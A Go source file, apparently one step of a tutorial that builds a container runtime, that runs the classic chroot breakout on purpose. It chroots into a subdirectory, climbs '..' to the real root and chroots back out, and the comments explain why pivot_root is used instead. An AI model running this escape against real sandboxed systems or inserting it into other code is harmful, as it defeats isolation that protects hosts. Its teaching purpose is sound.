//go:build linux

// The chroot breakout, shown on purpose. chroot(2) changes what "/" means
// for path lookups, and nothing else: it does not move the working
// directory, and the kernel stops ".." only at the process's own root. So a
// process with CAP_SYS_CHROOT chroots into a subdirectory (its working
// directory is now outside its root), climbs ".." until it stops moving,
// and chroots there: it is back at the host's real root. This is why Docker
// uses pivot_root (step 04) and drops CAP_SYS_CHROOT's friends.

package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// breakOut tries the classic escape from a chroot and reports where it ends.
func breakOut() error {
	// The directory goes on the container's tmpfs, so that it leaves no trace in the rootfs.
	container("breakout: mkdir(\"/tmp/.breakout\"); chroot(\"/tmp/.breakout\") — the working directory stays outside the new root")
	if err := os.Mkdir("/tmp/.breakout", 0o700); err != nil && !os.IsExist(err) {
		return fmt.Errorf("breakout: mkdir /tmp/.breakout: %w", err)
	}
	if err := unix.Chroot("/tmp/.breakout"); err != nil {
		return fmt.Errorf("breakout: chroot /tmp/.breakout: %w", err)
	}
	climbs := 0
	for ; climbs < 1024 && !atTop(); climbs++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("breakout: chdir ..: %w", err)
		}
	}
	container("breakout: chdir(\"..\") x %d, until \"..\" is \".\"; chroot(\".\")", climbs)
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("breakout: chroot .: %w", err)
	}
	return unix.Chdir("/")
}

// atTop reports whether "." and ".." are the same directory.
func atTop() bool {
	var dot, dotdot unix.Stat_t
	if unix.Stat(".", &dot) != nil || unix.Stat("..", &dotdot) != nil {
		return true
	}
	return dot.Dev == dotdot.Dev && dot.Ino == dotdot.Ino
}
